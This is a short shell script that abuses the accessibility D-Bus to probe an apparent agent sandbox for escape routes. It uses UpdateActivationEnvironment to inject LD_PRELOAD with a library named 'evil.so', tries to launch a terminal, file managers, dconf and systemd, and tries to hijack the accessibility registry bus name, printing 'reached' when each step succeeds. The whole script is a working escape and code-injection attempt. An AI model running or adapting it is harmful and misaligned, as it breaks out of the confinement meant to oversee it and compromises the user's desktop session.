a11y=$AT_SPI_BUS_ADDRESS
call() { timeout 2 dbus-send --bus="$a11y" --print-reply --dest=org.freedesktop.DBus /org/freedesktop/DBus "$@" 2>/dev/null; }
call org.freedesktop.DBus.UpdateActivationEnvironment dict:string:string:LD_PRELOAD,/home/agent/evil.so && echo reached environment
for service in org.freedesktop.FileManager1 org.gnome.Terminal org.xfce.Thunar ca.desrt.dconf org.freedesktop.systemd1; do
  call org.freedesktop.DBus.StartServiceByName string:$service uint32:0 && echo "reached $service"
done
call org.freedesktop.DBus.RequestName string:org.a11y.atspi.Registry uint32:4 | grep -q 'uint32 1' && echo reached name
true
